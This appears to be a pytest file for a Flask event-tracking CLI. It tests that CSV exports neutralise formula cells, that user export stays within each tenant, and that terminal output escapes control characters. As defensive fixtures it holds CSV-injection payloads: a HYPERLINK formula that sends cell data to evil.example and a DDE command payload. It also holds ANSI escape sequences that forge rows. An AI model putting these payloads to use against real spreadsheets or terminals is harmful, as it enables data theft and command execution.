"""What ``flask eventtrack`` hands on is safe where it lands: CSV cells no spreadsheet runs
as formulas, ``export --user`` stitching only through each tenant's own logins, and
text output with no control character for the operator's terminal. On every store."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from _pg import config_on_every_store  # noqa: F401 - the config fixture: every store
from flask import Flask
from flask.testing import FlaskClient

from flask_eventtrack import cli as cli_module

#: Cells Excel, LibreOffice or Google Sheets would evaluate (OWASP, CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
#: ESC sequences (OSC title, clear screen), an 8-bit CSI, a newline forging a row.
EVIL = "x\x1b]0;owned\x07\x1b[2J\x9b2J\nforged  row  0  0"
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # all but the newline


def run(app: Flask, *args: str) -> str:
    result = app.test_cli_runner().invoke(cli_module.cli, list(args))
    assert result.exit_code == 0, result.output
    return str(result.stdout)


def csv_rows(app: Flask, *args: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(run(app, "export", "--format", "csv", *args))))


def ndjson(app: Flask, *args: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in run(app, "export", *args).splitlines()]


# -- CSV: formula cells are neutralised, NDJSON stays exact --------------------------


def test_csv_cells_that_would_be_formulas_start_with_a_quote(app: Flask, client: FlaskClient) -> None:
    data = [{"user_id": "u", "type": f, "item_id": f, "n": -1} for f in FORMULAS]
    assert client.post("/cortex", json={"data": data}).status_code == 200
    rows = csv_rows(app)
    assert [(r["type"], r["item_id"]) for r in rows] == [("'" + f, "'" + f) for f in FORMULAS]
    assert json.loads(rows[0]["props"]) == {"n": -1}  # JSON text starts with '{': left as is
    assert [(r["type"], r["item_id"]) for r in ndjson(app)] == [(f, f) for f in FORMULAS]


def test_csv_of_the_rejected_log_is_neutralised_too(app: Flask, client: FlaskClient) -> None:
    client.post("/cortex", json={"data": [{"type": "=1+1", "timestamp": "x", "user_id": "u"}]})
    (row,) = csv_rows(app, "--rejected")
    assert row["type"] == "'=1+1"
    assert [r["type"] for r in ndjson(app, "--rejected")] == ["=1+1"]


def test_csv_leaves_ordinary_cells_alone(app: Flask, client: FlaskClient) -> None:
    assert (
        client.post("/cortex", json={"data": [{"user_id": "u", "type": "a=b", "item_id": "'x"}]}).status_code
        == 200
    )
    (row,) = csv_rows(app)
    assert (row["type"], row["item_id"], row["tenant"]) == ("a=b", "'x", "default")


# -- export --user: one tenant's logins never stitch another tenant's users ----------


@pytest.fixture
def two_customers(config: dict[str, Any]) -> dict[str, Any]:
    config["EVENTTRACK_IBEXA_CUSTOMERS"] = "00000,11111"
    return config


def consume(client: FlaskClient, customer: str, user: str, item: str) -> None:
    assert client.get(f"/api/{customer}/consume/{user}/1/{item}?percentage=50").status_code == 204


def test_export_user_stitches_only_through_the_events_own_tenant(
    two_customers: dict[str, Any], app: Flask, client: FlaskClient
) -> None:
    assert client.get("/api/00000/login/anon/john").status_code == 204  # anon is john, in 00000 only
    consume(client, "00000", "anon", "1")
    consume(client, "11111", "anon", "2")  # another customer's visitor with the same cookie id
    consume(client, "11111", "john", "3")
    consume(client, "00000", "john", "4")
    items = [(r["tenant"], r["item_id"]) for r in ndjson(app, "--user", "john", "--type", "consume")]
    assert items == [("00000", "1"), ("11111", "3"), ("00000", "4")]  # oldest first, across tenants
    in_11111 = ndjson(app, "--user", "john", "--tenant", "11111", "--type", "consume")
    assert [r["item_id"] for r in in_11111] == ["3"]
    as_csv = csv_rows(app, "--user", "john", "--type", "consume")
    assert [r["item_id"] for r in as_csv] == ["1", "3", "4"]


def test_export_user_without_tenant_reports_progress_without_a_wrong_total(
    two_customers: dict[str, Any], app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli_module, "PROGRESS_EVERY", 1)
    assert client.get("/api/00000/login/anon/john").status_code == 204
    consume(client, "11111", "anon", "2")  # counted by the store's superset, not exported
    consume(client, "00000", "john", "4")
    result = app.test_cli_runner().invoke(cli_module.cli, ["export", "--user", "john", "--type", "consume"])
    assert [json.loads(line)["item_id"] for line in result.stdout.splitlines()] == ["4"]
    assert "... 1\n" in result.stderr and " of " not in result.stderr


# -- text output: control characters are escaped, --json is unchanged ----------------


def test_stats_escapes_control_characters(app: Flask, client: FlaskClient) -> None:
    assert client.post("/cortex", json={"data": [{"user_id": "u", "type": EVIL}]}).status_code == 200
    out = run(app, "stats")
    assert not CONTROL.search(out), repr(out)
    header, row = out.splitlines()  # no forged row
    assert row.split()[2] == r"x\x1b]0;owned\x07\x1b[2J\x9b2J\nforged"
    assert json.loads(run(app, "stats", "--json"))["type"] == EVIL


def test_definitions_escape_control_characters(app: Flask, client: FlaskClient) -> None:
    assert (
        client.post("/cortex", json={"data": [{"user_id": "u", "type": EVIL, "p\tq": 1}]}).status_code == 200
    )
    out = run(app, "definitions")
    assert not CONTROL.search(out), repr(out)
    assert len(out.splitlines()) == 1 and r"x\x1b]0;owned" in out and r"params=p\tq" in out
    assert json.loads(run(app, "definitions", "--json"))["name"] == EVIL


def test_keys_list_escapes_control_characters(app: Flask) -> None:
    run(app, "keys", "create", "--tenant", "acme", "--label", "shop\x1b[2J\nforged")
    out = run(app, "keys", "list")
    assert not CONTROL.search(out), repr(out)
    assert len(out.splitlines()) == 1 and out.rstrip().endswith(r"shop\x1b[2J\nforged")


@pytest.fixture
def pool_of_one(two_customers: dict[str, Any]) -> dict[str, Any]:
    two_customers.update(EVENTTRACK_POSTGRES_POOL_MIN_SIZE=1, EVENTTRACK_POSTGRES_POOL_MAX_SIZE=1)
    return two_customers


def test_export_and_consumption_by_user_read_links_before_the_stream(
    pool_of_one: dict[str, Any], app: Flask, client: FlaskClient
) -> None:
    """A pool of one connection (a sync worker's setting) is held by the event stream:
    each tenant's links must be read before it, not while it runs."""
    from flask_eventtrack.ibexa_stats import consumption

    assert client.get("/api/00000/login/anon/john").status_code == 204
    consume(client, "00000", "anon", "1")
    consume(client, "11111", "anon", "2")
    items = [(r["tenant"], r["item_id"]) for r in ndjson(app, "--user", "john", "--type", "consume")]
    assert items == [("00000", "1")]
    with app.app_context():
        assert [(r["tenant"], r["item_id"]) for r in consumption(user="john")] == [("00000", "1")]
